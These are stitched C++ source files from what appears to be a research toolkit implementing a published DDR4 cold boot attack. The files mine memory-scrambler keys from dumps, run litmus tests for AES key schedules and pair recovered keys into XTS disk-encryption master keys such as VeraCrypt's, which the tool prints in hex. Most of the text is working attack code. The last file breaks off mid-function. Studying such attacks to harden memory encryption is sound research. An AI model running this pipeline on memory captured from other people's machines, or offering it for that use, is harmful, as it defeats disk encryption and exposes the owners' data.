PipelinedChaChaEngine::PipelinedChaChaEngine(
    std::span<const uint8_t> key, std::span<const uint8_t> nonce,
    int rounds)
    : nrounds(rounds)
{
    if (key.size() != 32)
        cb_fatal("PipelinedChaChaEngine key must be 32 bytes");
    if (nonce.size() != 8)
        cb_fatal("PipelinedChaChaEngine nonce must be 8 bytes");
    if (rounds != 8 && rounds != 12 && rounds != 20)
        cb_fatal("PipelinedChaChaEngine rounds must be 8/12/20");
    for (int i = 0; i < 8; ++i)
        key_words[i] = loadLE32(&key[4 * i]);
    nonce_words[0] = loadLE32(&nonce[0]);
    nonce_words[1] = loadLE32(&nonce[4]);
    // load + 2 per round + final add.
    stages.resize(2 * static_cast<size_t>(rounds) + 2);
    auto &registry = obs::StatRegistry::global();
    queue_depth_dist = &registry.distribution(
        "engine.pipelined.chacha.queue_depth",
        "counters waiting at the ChaCha ingest port, sampled per "
        "clock",
        {0, 1, 2, 4, 8, 16, 32, 64});
    lines_completed = &registry.counter(
        "engine.pipelined.chacha.lines_completed",
        "64-byte keystream lines completed by the ChaCha pipeline");
}

Picoseconds
PipelinedChaChaEngine::periodPs() const
{
    CipherKind kind = nrounds == 8    ? CipherKind::ChaCha8
                      : nrounds == 12 ? CipherKind::ChaCha12
                                      : CipherKind::ChaCha20;
    return engineSpec(kind).periodPs();
}

void
PipelinedChaChaEngine::request(uint64_t req_id, uint64_t line_addr)
{
    ingest_queue.emplace_back(req_id, line_addr);
}

void
PipelinedChaChaEngine::clock()
{
    ++cycle;
    queue_depth_dist->sample(
        static_cast<double>(ingest_queue.size()));
    size_t depth_stages = stages.size();

    // Shift back-to-front, applying each stage's combinational work
    // as data enters the stage.
    for (size_t k = depth_stages - 1; k > 0; --k) {
        if (stages[k - 1].valid) {
            StageReg next = stages[k - 1];
            if (k == depth_stages - 1) {
                // Final feed-forward add.
                for (int i = 0; i < 16; ++i)
                    next.x[i] += next.init[i];
            } else {
                // Half-round layer k-1 (stages 1..2*rounds).
                unsigned layer = static_cast<unsigned>(k - 1);
                halfRoundLayer(next.x, layer / 2, layer % 2 == 1);
            }
            stages[k] = next;
        } else {
            stages[k].valid = false;
        }
    }

    // Stage 0: state load from the ingest port.
    if (!ingest_queue.empty()) {
        auto [req_id, line_addr] = ingest_queue.front();
        ingest_queue.erase(ingest_queue.begin());
        StageReg reg;
        reg.valid = true;
        reg.req_id = req_id;
        for (int i = 0; i < 4; ++i)
            reg.init[i] = chachaSigma[i];
        for (int i = 0; i < 8; ++i)
            reg.init[4 + i] = key_words[i];
        reg.init[12] = static_cast<uint32_t>(line_addr);
        reg.init[13] = static_cast<uint32_t>(line_addr >> 32);
        reg.init[14] = nonce_words[0];
        reg.init[15] = nonce_words[1];
        reg.x = reg.init;
        stages[0] = reg;
    } else {
        stages[0].valid = false;
    }

    // The value latched into the final stage this edge is the
    // finished keystream.
    const StageReg &out = stages[depth_stages - 1];
    if (out.valid) {
        LineCompletion lc;
        lc.req_id = out.req_id;
        lc.cycle = cycle;
        for (int i = 0; i < 16; ++i)
            storeLE32(&lc.keystream[4 * i], out.x[i]);
        completions.push_back(lc);
        lines_completed->add();
    }
}

std::vector<LineCompletion>
PipelinedChaChaEngine::drain()
{
    auto out = std::move(completions);
    completions.clear();
    return out;
}

bool
PipelinedChaChaEngine::busy() const
{
    if (!ingest_queue.empty())
        return true;
    for (const auto &s : stages)
        if (s.valid)
            return true;
    return false;
}

} // namespace coldboot::engine
