/**
 * @file
 * The classic Halderman et al. (USENIX Security 2008) AES key
 * search - the baseline algorithm the paper's attack modifies.
 *
 * The original "Lest We Remember" keyfinder slides a window across a
 * fully *descrambled* memory image byte by byte, treats each window
 * as a candidate raw key, runs the standard key expansion, and
 * compares the result against the adjacent bytes with a Hamming
 * threshold (to survive bit decay).
 *
 * Its preconditions are exactly what DDR4 scrambling breaks: it needs
 * the whole image in plaintext, because round keys spanning multiple
 * 64-byte blocks would otherwise be scrambled under up to four
 * different unknown scrambler keys (the paper's 2^48 brute-force
 * observation). It is included here as the baseline comparator: it
 * works on DDR/DDR2-era plaintext dumps and on DDR3 dumps after the
 * universal-key descramble, and fails on scrambled DDR4 dumps - which
 * is precisely the gap the paper's block-wise litmus attack closes.
 */

#ifndef COLDBOOT_ATTACK_HALDERMAN_SEARCH_HH
#define COLDBOOT_ATTACK_HALDERMAN_SEARCH_HH

#include <cstdint>
#include <vector>

#include "common/secure.hh"
#include "crypto/aes.hh"
#include "exec/cancel.hh"
#include "exec/dump_io.hh"
#include "platform/memory_image.hh"

namespace coldboot::attack
{

/** One key found by the baseline search. */
struct BaselineKey
{
    /** Raw master key bytes. */
    std::vector<uint8_t> master;
    /** AES variant. */
    crypto::AesKeySize key_size = crypto::AesKeySize::Aes256;
    /** Byte offset of the key (schedule word 0) in the image. */
    uint64_t offset = 0;
    /** Hamming distance between predicted and observed schedule. */
    unsigned bit_errors = 0;

    BaselineKey() = default;
    BaselineKey(const BaselineKey &) = default;
    BaselineKey(BaselineKey &&) = default;
    BaselineKey &operator=(const BaselineKey &) = default;
    BaselineKey &operator=(BaselineKey &&) = default;
    /** A recovered key is key material: wipe it on release. */
    ~BaselineKey() { secureWipe(master); }
};

/** Baseline search tuning. */
struct BaselineParams
{
    /** AES variant to search for. */
    crypto::AesKeySize key_size = crypto::AesKeySize::Aes256;
    /**
     * Maximum Hamming distance between the expansion of the window
     * and the bytes that follow it (decay tolerance over the whole
     * remaining schedule).
     */
    unsigned max_bit_errors = 96;
    /** Window step in bytes (1 = original byte-by-byte sliding). */
    unsigned step = 1;
    /** First byte to scan. */
    uint64_t scan_start = 0;
    /** Bytes to scan (0 = to end). */
    uint64_t scan_bytes = 0;
    /**
     * Optional cooperative cancellation: checked once per scan chunk;
     * a raised token makes the call throw exec::CancelledError.
     */
    const exec::CancelToken *cancel = nullptr;
};

/**
 * Slide the Halderman keyfinder across a plaintext memory dump.
 *
 * Window positions are scanned chunked on the global
 * exec::ThreadPool; candidates are deduplicated in ascending offset
 * order during the ordered reduction, so the output is byte-identical
 * to a sequential slide for any worker count (DESIGN.md §9).
 *
 * @param image  A *descrambled* (plaintext) dump.
 * @param params Tuning.
 * @return Keys found, deduplicated, in offset order.
 */
std::vector<BaselineKey> haldermanSearch(
    const exec::DumpSource &image,
    const BaselineParams &params = {});

/** Convenience overload over an in-memory image (zero-copy). */
std::vector<BaselineKey> haldermanSearch(
    const platform::MemoryImage &image,
    const BaselineParams &params = {});

} // namespace coldboot::attack

#endif // COLDBOOT_ATTACK_HALDERMAN_SEARCH_HH
