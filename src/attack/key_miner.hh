/**
 * @file
 * Scrambler-key mining from a scrambled memory dump (attack step 1).
 *
 * Zero-filled 64-byte blocks are common in real memory, and a zero
 * block stores the raw scrambler key in DRAM. The miner scans a dump
 * for blocks passing the scrambler-key litmus test, clusters them
 * with Hamming tolerance (bit decay means few copies are pristine),
 * majority-votes each cluster into a clean key, and ranks clusters by
 * occurrence count. Per the paper, mining less than 16 MB of dump is
 * enough to recover every key of a channel even on a loaded system.
 */

#ifndef COLDBOOT_ATTACK_KEY_MINER_HH
#define COLDBOOT_ATTACK_KEY_MINER_HH

#include <array>
#include <cstdint>
#include <vector>

#include "common/secure.hh"
#include "exec/cancel.hh"
#include "exec/dump_io.hh"
#include "platform/memory_image.hh"

namespace coldboot::attack
{

/** One mined candidate scrambler key. */
struct MinedKey
{
    MinedKey() = default;
    MinedKey(const std::array<uint8_t, 64> &key_, size_t occurrences_,
             uint64_t first_offset_)
        : key(key_), occurrences(occurrences_),
          first_offset(first_offset_)
    {
    }
    MinedKey(const MinedKey &) = default;
    MinedKey(MinedKey &&) = default;
    MinedKey &operator=(const MinedKey &) = default;
    MinedKey &operator=(MinedKey &&) = default;

    /** Every copy of a mined key is scrubbed when it dies. */
    ~MinedKey() { secureWipe(key.data(), key.size()); }

    /** Majority-voted 64-byte key. */
    std::array<uint8_t, 64> key{};
    /** Number of dump blocks that contributed to this cluster. */
    size_t occurrences = 0;
    /** Dump offset of the first contributing block. */
    uint64_t first_offset = 0;
};

/** Key-miner tuning. */
struct MinerParams
{
    /**
     * Litmus tolerance in invariant mismatch bits. Each decayed bit
     * of a zero block perturbs about two invariant equations, so the
     * tolerance is sized for the few-percent decay of a cooled
     * transfer while staying far below the ~128-bit mismatch of
     * random data.
     */
    unsigned litmus_max_bit_errors = 32;
    /** Max Hamming distance to join an existing cluster. */
    unsigned cluster_distance = 80;
    /** Scan at most this many bytes of the dump (0 = all). */
    uint64_t scan_limit_bytes = 16ull << 20;
    /** Drop clusters with fewer occurrences than this. */
    size_t min_occurrences = 2;
    /** Filter trivially constant blocks before clustering. */
    bool drop_constant_blocks = true;
    /**
     * Worker threads for the scan phase: 0 (default) runs on the
     * shared global exec::ThreadPool, 1 scans serially in-line,
     * N > 1 uses a dedicated pool of N workers. The mined keys are
     * byte-identical in every mode (DESIGN.md §9) - the fuzzer's
     * parallel-fingerprint oracle asserts exactly that.
     */
    unsigned threads = 0;
    /**
     * Optional cooperative cancellation: checked once per scan chunk;
     * a raised token makes the call throw exec::CancelledError.
     * Null (the default) scans to completion unconditionally.
     */
    const exec::CancelToken *cancel = nullptr;
};

/** Mining statistics for reporting. */
struct MinerStats
{
    uint64_t blocks_scanned = 0;
    uint64_t litmus_hits = 0;
    uint64_t constant_dropped = 0;
    size_t clusters = 0;
    size_t keys_reported = 0;
};

/**
 * Mine candidate scrambler keys from a dump.
 *
 * The block scan runs chunked on the global exec::ThreadPool;
 * litmus hits are reduced in ascending dump order, so the clustering
 * (and hence the reported keys) are byte-identical to a sequential
 * run regardless of COLDBOOT_THREADS (see DESIGN.md §9).
 *
 * @param dump   Scrambled dump (any DumpSource backend).
 * @param params Tuning parameters.
 * @param stats  Optional statistics out-parameter.
 * @return Candidates sorted by descending occurrence count.
 */
std::vector<MinedKey> mineScramblerKeys(
    const exec::DumpSource &dump, const MinerParams &params = {},
    MinerStats *stats = nullptr);

/** Convenience overload over an in-memory image (zero-copy). */
std::vector<MinedKey> mineScramblerKeys(
    const platform::MemoryImage &dump, const MinerParams &params = {},
    MinerStats *stats = nullptr);

} // namespace coldboot::attack

#endif // COLDBOOT_ATTACK_KEY_MINER_HH
