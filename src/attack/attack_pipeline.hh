/**
 * @file
 * End-to-end DDR4 cold boot attack pipeline (Section III-C): mine
 * scrambler keys from the dump, search for expanded AES key tables,
 * and pair the recovered keys back into XTS (data, tweak) master-key
 * pairs as cached by disk-encryption drivers.
 */

#ifndef COLDBOOT_ATTACK_ATTACK_PIPELINE_HH
#define COLDBOOT_ATTACK_ATTACK_PIPELINE_HH

#include <cstdint>
#include <vector>

#include "attack/aes_search.hh"
#include "attack/key_miner.hh"
#include "common/secure.hh"
#include "exec/dump_io.hh"
#include "platform/memory_image.hh"

namespace coldboot::attack
{

/** Pipeline tuning: mining plus search. */
struct PipelineParams
{
    MinerParams miner;
    /** Search tuning; its key_size is overridden by key_sizes. */
    SearchParams search;
    /**
     * AES variants to search for. Disk encryption keys are almost
     * always AES-256 XTS, but a forensic scan may want every
     * variant.
     */
    std::vector<crypto::AesKeySize> key_sizes = {
        crypto::AesKeySize::Aes256};
};

/** A recovered XTS master-key pair (e.g. a VeraCrypt volume key). */
struct RecoveredXtsKeys
{
    RecoveredXtsKeys() = default;
    RecoveredXtsKeys(const RecoveredXtsKeys &) = default;
    RecoveredXtsKeys(RecoveredXtsKeys &&) = default;
    RecoveredXtsKeys &operator=(const RecoveredXtsKeys &) = default;
    RecoveredXtsKeys &operator=(RecoveredXtsKeys &&) = default;

    /** Scrub both recovered keys when this copy dies. */
    ~RecoveredXtsKeys()
    {
        secureWipe(data_key);
        secureWipe(tweak_key);
    }

    std::vector<uint8_t> data_key;
    std::vector<uint8_t> tweak_key;
    /** Dump offset of the data-key schedule. */
    uint64_t table_offset = 0;
};

/**
 * Full pipeline report.
 *
 * The stats fields are per-call views of the `attack.*` stats the
 * run adds to obs::StatRegistry::global(); the registry additionally
 * holds cumulative totals, per-stage wall-clock spans (mine / search
 * / pair, exported via obs::PhaseTracer) and derived figures such as
 * `attack.pipeline.mib_per_second`.
 */
struct PipelineReport
{
    MinerStats miner_stats;
    SearchStats search_stats;
    std::vector<MinedKey> mined_keys;
    std::vector<RecoveredAesKey> recovered;
    std::vector<RecoveredXtsKeys> xts_pairs;
    /**
     * End-to-end scan throughput in MiB per second, computed from
     * the registry's `attack.pipeline` span; 0 (never inf/nan) for
     * an empty dump.
     */
    double mib_per_second = 0.0;
};

/**
 * Run the complete attack on a scrambled dump. The dump is streamed
 * through its DumpSource backend (mmap, buffered pread or memory)
 * and scanned on the global exec::ThreadPool; the recovered keys are
 * byte-identical for any worker count (DESIGN.md §9).
 */
PipelineReport runColdBootAttack(const exec::DumpSource &dump,
                                 const PipelineParams &params = {});

/** Convenience overload over an in-memory image (zero-copy). */
PipelineReport runColdBootAttack(const platform::MemoryImage &dump,
                                 const PipelineParams &params = {});

/**
 * Pair recovered AES keys whose schedules sit exactly one schedule
 * apart in memory into XTS (data, tweak) pairs - the layout
 * disk-encryption drivers use for their cached key context.
 */
std::vector<RecoveredXtsKeys> pairXtsKeys(
    const std::vector<RecoveredAesKey> &recovered);

} // namespace coldboot::attack

#endif // COLDBOOT_ATTACK_ATTACK_PIPELINE_HH
