/**
 * @file
 * The two litmus tests at the heart of the DDR4 cold boot attack
 * (Section III-B and III-C).
 *
 * Scrambler-key litmus: invariants between byte pairs inside every
 * 64-byte DDR4 scrambler key. A zero-filled memory block stores the
 * raw scrambler key in DRAM, so blocks passing this test reveal
 * candidate keys. The test is Hamming-tolerant to survive bit decay.
 *
 * AES key litmus: a 64-byte block taken from the middle of an
 * expanded AES key schedule is internally consistent under the key
 * expansion recurrence - at least 3 consecutive round keys fall in
 * any such block regardless of alignment. Because the round-constant
 * schedule depends on the absolute position, the test tries every
 * possible starting round (12 possibilities for AES-256).
 */

#ifndef COLDBOOT_ATTACK_LITMUS_HH
#define COLDBOOT_ATTACK_LITMUS_HH

#include <cstdint>
#include <optional>
#include <span>

#include "crypto/aes.hh"

namespace coldboot::attack
{

/**
 * Total bit mismatch across the paper's four byte-pair invariant
 * equations evaluated on every 16-byte-aligned word of a 64-byte
 * block (16 equations of 16 bits each; 0 for a pristine key).
 */
unsigned scramblerKeyLitmusScore(std::span<const uint8_t> block);

/**
 * Scrambler-key litmus test with decay tolerance.
 *
 * @param block          64-byte candidate block.
 * @param max_bit_errors Accepted invariant mismatch bits.
 */
bool scramblerKeyLitmus(std::span<const uint8_t> block,
                        unsigned max_bit_errors = 0);

/**
 * Whether a block is trivially constant (all bytes equal). Constant
 * blocks - decayed ground-state stripes, unwritten zeros - satisfy
 * the scrambler invariants vacuously and are filtered by the miner.
 */
bool isConstantBlock(std::span<const uint8_t> block);

/**
 * Whether a block is plausibly key-schedule material on entropy
 * grounds: expanded AES schedules are indistinguishable from random
 * (bit weight near half), while decayed zero blocks, pointer-heavy
 * heap data and padding sit far below. Used as a cheap guard before
 * the (tolerant) AES litmus so that low-entropy plaintext cannot
 * sneak under the decay allowance.
 */
bool plausibleScheduleEntropy(std::span<const uint8_t> block);

/** Result of the AES key litmus test on one 64-byte block. */
struct AesLitmusResult
{
    /**
     * Absolute schedule word index of the block's first word; the
     * block holds schedule words [start_word, start_word + 16).
     */
    unsigned start_word;
    /** Bit mismatch of the predicted vs observed continuation. */
    unsigned bit_errors;
};

/**
 * AES key litmus test: does this (descrambled) 64-byte block look
 * like 16 consecutive words of an expanded AES key schedule?
 *
 * The block's first Nk words are taken as a recurrence window and
 * the following words are predicted and compared against the rest of
 * the block, for every possible 16-byte-aligned absolute position of
 * the block inside a schedule (12 positions for AES-256, 10 for
 * AES-192, 8 for AES-128).
 *
 * @param block          64-byte candidate block.
 * @param key_size       Which AES variant's schedule to test for.
 * @param max_bit_errors Accepted total mismatch bits (decay
 *                       tolerance).
 * @param max_bits_per_check Accepted mismatch bits on any single
 *                       predicted word. Most recurrence steps are
 *                       position-independent; only the Rcon/SubWord
 *                       steps pin the absolute round, and a wrong
 *                       placement fails exactly those checks with
 *                       ~half their bits. The per-check cap rejects
 *                       such placements while the total budget stays
 *                       generous for scattered decay.
 * @return The best matching placement, or std::nullopt.
 */
std::optional<AesLitmusResult>
aesKeyLitmus(std::span<const uint8_t> block,
             crypto::AesKeySize key_size, unsigned max_bit_errors = 0,
             unsigned max_bits_per_check = 12);

/**
 * Word-level entry point of the AES key litmus test (the hot path of
 * the dump scan: callers that already hold the block as 16 packed
 * schedule words avoid the byte conversion).
 */
std::optional<AesLitmusResult>
aesKeyLitmusWords(const uint32_t words[16],
                  crypto::AesKeySize key_size, unsigned max_bit_errors,
                  unsigned max_bits_per_check);

/**
 * Number of candidate schedule placements aesKeyLitmus() tries for a
 * key size (the paper's "12 possible expansions" for AES-256).
 */
unsigned aesLitmusPlacements(crypto::AesKeySize key_size);

} // namespace coldboot::attack

#endif // COLDBOOT_ATTACK_LITMUS_HH
