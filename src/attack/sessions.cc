#include "attack/sessions.hh"

#include <algorithm>
#include <chrono>
#include <cstdarg>
#include <cstdio>
#include <cstring>

#include "common/hex.hh"
#include "common/logging.hh"
#include "crypto/aes.hh"
#include "crypto/sha256.hh"
#include "exec/thread_pool.hh"
#include "obs/progress.hh"
#include "obs/stats.hh"
#include "obs/trace.hh"
#include "simd/simd.hh"

namespace coldboot::attack
{

namespace
{

/** Dump bytes a mining pass will actually scan (line aligned). */
uint64_t
mineScanBytes(const exec::DumpSource &dump, const MinerParams &params)
{
    uint64_t bytes = dump.size();
    if (params.scan_limit_bytes != 0)
        bytes = std::min<uint64_t>(bytes, params.scan_limit_bytes);
    return bytes & ~63ull;
}

/** 64-byte lines XOR-descrambled per pool task (4 MiB of dump). */
constexpr uint64_t kDescrambleGrainLines = 65536;

double
secondsSince(std::chrono::steady_clock::time_point t0)
{
    return std::chrono::duration<double>(
               std::chrono::steady_clock::now() - t0)
        .count();
}

/** printf-append into a std::string. */
void
appendf(std::string &out, const char *fmt, ...)
    __attribute__((format(printf, 2, 3)));

void
appendf(std::string &out, const char *fmt, ...)
{
    va_list args;
    va_start(args, fmt);
    char buf[512];
    int n = std::vsnprintf(buf, sizeof(buf), fmt, args);
    va_end(args);
    if (n > 0)
        out.append(buf, std::min<size_t>(static_cast<size_t>(n),
                                         sizeof(buf) - 1));
}

} // anonymous namespace

const char *
sessionStageName(SessionStage stage)
{
    switch (stage) {
    case SessionStage::Mine:
        return "mine";
    case SessionStage::Search:
        return "search";
    case SessionStage::Pair:
        return "pair";
    case SessionStage::Descramble:
        return "descramble";
    case SessionStage::Done:
        return "done";
    case SessionStage::Cancelled:
        return "cancelled";
    case SessionStage::Failed:
        return "failed";
    }
    return "unknown";
}

bool
sessionStageTerminal(SessionStage stage)
{
    return stage == SessionStage::Done ||
           stage == SessionStage::Cancelled ||
           stage == SessionStage::Failed;
}

AnalysisSession::AnalysisSession(std::string span_label,
                                 std::string progress_label)
    : span_label_(std::move(span_label)),
      progress_label_(std::move(progress_label))
{
}

bool
AnalysisSession::step()
{
    if (finished())
        return false;
    if (progress_ == nullptr)
        progress_ = obs::ProgressTracker::global().startJob(
            progress_label_, progressTotalUnits());

    // One span per step, not one umbrella span held across steps:
    // ScopedSpan parks trace context in thread-local state, and a
    // scheduler may run successive steps of the same session on
    // different pool threads.
    auto t0 = std::chrono::steady_clock::now();
    try {
        obs::ScopedSpan span(span_label_);
        runStage();
    } catch (const exec::CancelledError &) {
        elapsed_seconds_ += secondsSince(t0);
        stage_ = SessionStage::Cancelled;
        progress_->finish();
        throw;
    } catch (const std::exception &e) {
        elapsed_seconds_ += secondsSince(t0);
        stage_ = SessionStage::Failed;
        error_ = e.what();
        progress_->finish();
        throw;
    }
    elapsed_seconds_ += secondsSince(t0);
    if (stage_ == SessionStage::Done) {
        finalize();
        progress_->finish();
    }
    return !finished();
}

void
AnalysisSession::runToCompletion()
{
    while (step()) {
    }
}

SessionCheckpoint
AnalysisSession::checkpoint() const
{
    SessionCheckpoint cp;
    cp.stage = stage_;
    cp.elapsed_seconds = elapsed_seconds_;
    cp.error = error_;
    return cp;
}

//
// AttackSession
//

AttackSession::AttackSession(const exec::DumpSource &dump,
                             PipelineParams params,
                             std::string progress_label)
    : AnalysisSession("attack.pipeline", std::move(progress_label)),
      dump_(dump), params_(std::move(params))
{
    params_.miner.cancel = &cancel_;
    params_.search.cancel = &cancel_;
    mine_bytes_ = mineScanBytes(dump_, params_.miner);
}

uint64_t
AttackSession::progressTotalUnits() const
{
    return mine_bytes_ + dump_.size() * params_.key_sizes.size();
}

void
AttackSession::runStage()
{
    switch (stage_) {
    case SessionStage::Mine:
        stageMine();
        break;
    case SessionStage::Search:
        stageSearch();
        break;
    case SessionStage::Pair:
        stagePair();
        break;
    default:
        cb_fatal("AttackSession: runStage in state %s",
                 sessionStageName(stage_));
    }
}

void
AttackSession::stageMine()
{
    obs::ScopedSpan span("mine");
    cb_inform("attack: mining scrambler keys from %zu MiB dump",
              dump_.size() >> 20);
    report_.mined_keys = mineScramblerKeys(dump_, params_.miner,
                                           &report_.miner_stats);
    progress_->advance(mine_bytes_);
    cb_inform("attack: mined %zu candidate keys "
              "(%llu litmus hits over %llu blocks)",
              report_.mined_keys.size(),
              static_cast<unsigned long long>(
                  report_.miner_stats.litmus_hits),
              static_cast<unsigned long long>(
                  report_.miner_stats.blocks_scanned));
    stage_ = SessionStage::Search;
}

void
AttackSession::stageSearch()
{
    obs::ScopedSpan span("search");
    if (next_key_size_ < params_.key_sizes.size()) {
        SearchParams search = params_.search;
        search.key_size = params_.key_sizes[next_key_size_];
        SearchStats stats;
        auto found = searchAesKeyTables(dump_, report_.mined_keys,
                                        search, &stats);
        report_.recovered.insert(report_.recovered.end(),
                                 found.begin(), found.end());
        report_.search_stats.blocks_scanned += stats.blocks_scanned;
        report_.search_stats.descramble_attempts +=
            stats.descramble_attempts;
        report_.search_stats.litmus_hits += stats.litmus_hits;
        report_.search_stats.reconstructions_tried +=
            stats.reconstructions_tried;
        report_.search_stats.reconstructions_verified +=
            stats.reconstructions_verified;
        report_.search_stats.seconds += stats.seconds;
        progress_->advance(dump_.size());
        ++next_key_size_;
    }
    if (next_key_size_ >= params_.key_sizes.size()) {
        cb_inform("attack: recovered %zu AES key table(s)",
                  report_.recovered.size());
        stage_ = SessionStage::Pair;
    }
}

void
AttackSession::stagePair()
{
    obs::ScopedSpan span("pair");
    report_.xts_pairs = pairXtsKeys(report_.recovered);
    cb_inform("attack: paired %zu XTS master key set(s)",
              report_.xts_pairs.size());
    stage_ = SessionStage::Done;
}

void
AttackSession::finalize()
{
    auto &registry = obs::StatRegistry::global();
    registry.counter("attack.pipeline.bytes_scanned",
                     "dump bytes scanned across mining and search")
        .add((report_.miner_stats.blocks_scanned +
              report_.search_stats.blocks_scanned) * 64);
    registry.counter("attack.pipeline.keys_recovered",
                     "AES key tables recovered")
        .add(report_.recovered.size());
    registry.counter("attack.pipeline.xts_pairs",
                     "XTS master key pairs recovered")
        .add(report_.xts_pairs.size());
    registry.rate("attack.pipeline.runs",
                  "end-to-end attack pipelines completed").add();

    // Throughput from the wall clock accumulated across steps; an
    // empty dump (or an impossibly fast run) reports 0, never
    // inf/nan.
    if (dump_.size() > 0 && elapsed_seconds_ > 0.0) {
        report_.mib_per_second =
            static_cast<double>(dump_.size()) / (1 << 20) /
            elapsed_seconds_;
    }
    registry.setScalar("attack.pipeline.mib_per_second",
                       report_.mib_per_second,
                       "end-to-end scan throughput of the most "
                       "recent pipeline run");
}

PipelineReport
AttackSession::takeReport()
{
    cb_assert(finished(), "takeReport on a running session");
    return std::move(report_);
}

SessionCheckpoint
AttackSession::checkpoint() const
{
    SessionCheckpoint cp = AnalysisSession::checkpoint();
    cp.search_passes_done = next_key_size_;
    cp.mined_keys = report_.mined_keys.size();
    cp.recovered_keys = report_.recovered.size();
    cp.xts_pairs = report_.xts_pairs.size();
    return cp;
}

//
// MineSession
//

MineSession::MineSession(const exec::DumpSource &dump,
                         MinerParams params,
                         std::string progress_label)
    : AnalysisSession("attack.mine", std::move(progress_label)),
      dump_(dump), params_(params)
{
    params_.cancel = &cancel_;
}

uint64_t
MineSession::progressTotalUnits() const
{
    return mineScanBytes(dump_, params_);
}

void
MineSession::runStage()
{
    cb_assert(stage_ == SessionStage::Mine,
              "MineSession: runStage in a non-mine state");
    mined_ = mineScramblerKeys(dump_, params_, &stats_);
    progress_->advance(mineScanBytes(dump_, params_));
    stage_ = SessionStage::Done;
}

SessionCheckpoint
MineSession::checkpoint() const
{
    SessionCheckpoint cp = AnalysisSession::checkpoint();
    cp.mined_keys = mined_.size();
    return cp;
}

//
// DescrambleSession
//

DescrambleSession::DescrambleSession(const exec::DumpSource &dump,
                                     std::string out_path,
                                     MinerParams params,
                                     std::string progress_label)
    : AnalysisSession("attack.descramble",
                      std::move(progress_label)),
      dump_(dump), params_(params), out_path_(std::move(out_path))
{
    params_.cancel = &cancel_;
}

uint64_t
DescrambleSession::progressTotalUnits() const
{
    return mineScanBytes(dump_, params_) + dump_.size();
}

void
DescrambleSession::runStage()
{
    switch (stage_) {
    case SessionStage::Mine:
        stageMine();
        break;
    case SessionStage::Descramble:
        stageDescramble();
        break;
    default:
        cb_fatal("DescrambleSession: runStage in state %s",
                 sessionStageName(stage_));
    }
}

void
DescrambleSession::stageMine()
{
    obs::ScopedSpan span("mine");
    mined_ = mineScramblerKeys(dump_, params_, &mine_stats_);
    progress_->advance(mineScanBytes(dump_, params_));
    if (mined_.empty())
        throw std::runtime_error(
            "descramble: no scrambler keys mined from dump");
    stage_ = SessionStage::Descramble;
}

void
DescrambleSession::stageDescramble()
{
    obs::ScopedSpan span("descramble");

    // The whole image XORed with the top-ranked mined key: on a
    // single-key region this is exactly the paper's descramble step,
    // turning the scrambled capture back into the plaintext image the
    // baseline (Halderman) tooling expects.
    const std::array<uint8_t, 64> &key = mined_[0].key;

    std::FILE *f = std::fopen(out_path_.c_str(), "wb");
    if (f == nullptr)
        throw std::runtime_error("descramble: cannot open '" +
                                 out_path_ + "' for writing");

    uint64_t lines = dump_.size() / 64;
    crypto::Sha256 sha;
    bool write_failed = false;
    // Parallel XOR, strictly ordered write-out + digest: the output
    // file is byte-identical at any pool width (DESIGN.md §9).
    exec::parallelMapReduceChunks<std::vector<uint8_t>>(
        0, lines, kDescrambleGrainLines,
        [&](const exec::ChunkRange &c) {
            exec::checkpointIfCancellable(params_.cancel);
            thread_local exec::ChunkBuffer buf;
            uint64_t lo = c.begin * 64;
            uint64_t len = (c.end - c.begin) * 64;
            dump_.prefetch(lo, len);
            auto bytes = dump_.chunk(lo, len, buf);
            std::vector<uint8_t> out(bytes.begin(), bytes.end());
            // Chunks are cut on 64-byte lines, so the repeat-key
            // phase restarts at key[0] in every chunk.
            simd::xorRepeatKey64(out.data(), key.data(), out.size());
            return out;
        },
        [&](std::vector<uint8_t> &&out, const exec::ChunkRange &) {
            sha.update(out);
            if (!write_failed &&
                std::fwrite(out.data(), 1, out.size(), f) !=
                    out.size())
                write_failed = true;
            progress_->advance(out.size());
        });
    bool close_failed = std::fclose(f) != 0;
    if (write_failed || close_failed)
        throw std::runtime_error("descramble: short write to '" +
                                 out_path_ + "'");

    auto digest = sha.finish();
    result_.mined_keys = mined_.size();
    result_.key_occurrences = mined_[0].occurrences;
    result_.lines = lines;
    result_.sha256_hex = toHex(digest);
    result_.out_path = out_path_;
    stage_ = SessionStage::Done;
}

SessionCheckpoint
DescrambleSession::checkpoint() const
{
    SessionCheckpoint cp = AnalysisSession::checkpoint();
    cp.mined_keys = mined_.size();
    return cp;
}

//
// Deterministic result rendering
//

std::string
renderAttackSummary(const PipelineReport &report)
{
    std::string out;
    appendf(out,
            "mined %zu candidate keys; recovered %zu AES table(s);"
            " %zu XTS pair(s);",
            report.mined_keys.size(), report.recovered.size(),
            report.xts_pairs.size());
    return out;
}

std::string
renderAttackKeys(const PipelineReport &report)
{
    std::string out;
    for (const auto &pair : report.xts_pairs) {
        // coldboot-lint: allow(secret-taint) -- rendering recovered keys is this attack tool's output
        appendf(out,
                "XTS master keys at dump offset 0x%llx:\n"
                "  data : %s\n  tweak: %s\n",
                static_cast<unsigned long long>(pair.table_offset),
                toHex({pair.data_key.data(), 32}).c_str(),
                toHex({pair.tweak_key.data(), 32}).c_str());
    }
    return out;
}

std::string
renderAttackResult(const PipelineReport &report)
{
    return renderAttackSummary(report) + "\n" +
           renderAttackKeys(report);
}

std::string
renderMineResult(const MinerStats &stats,
                 const std::vector<MinedKey> &mined, size_t top_n)
{
    std::string out;
    appendf(out,
            "scanned %llu blocks, %llu litmus hits, %zu "
            "candidate keys\n",
            static_cast<unsigned long long>(stats.blocks_scanned),
            static_cast<unsigned long long>(stats.litmus_hits),
            mined.size());
    for (size_t i = 0; i < std::min(top_n, mined.size()); ++i) {
        // coldboot-lint: allow(secret-taint) -- listing mined scrambler keys is the mine command's output
        appendf(out, "#%2zu x%-5zu %s...\n", i, mined[i].occurrences,
                toHex({mined[i].key.data(), 16}).c_str());
    }
    return out;
}

std::string
renderDescrambleResult(const DescrambleResult &result)
{
    std::string out;
    appendf(out,
            "descrambled %llu lines with top key (x%zu of %zu "
            "mined)\n",
            static_cast<unsigned long long>(result.lines),
            result.key_occurrences, result.mined_keys);
    appendf(out, "sha256 %s\n", result.sha256_hex.c_str());
    appendf(out, "wrote %s\n", result.out_path.c_str());
    return out;
}

} // namespace coldboot::attack
