#include "attack/litmus.hh"

#include <bit>

#include "common/bits.hh"
#include "common/logging.hh"
#include "simd/simd.hh"

namespace coldboot::attack
{

unsigned
scramblerKeyLitmusScore(std::span<const uint8_t> block)
{
    cb_assert(block.size() == 64, "litmus block must be 64 bytes");
